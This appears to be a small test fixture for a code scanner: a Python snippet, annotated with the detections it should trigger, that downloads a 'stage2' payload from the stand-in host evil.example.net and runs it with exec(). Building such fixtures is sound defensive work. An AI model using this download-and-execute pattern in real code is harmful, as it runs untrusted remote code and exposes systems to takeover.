# expect: dynamic_exec_downloaded, http_client(host=evil.example.net allowed=false)
import requests
r = requests.get("https://evil.example.net/stage2")
code = r.text
exec(code)
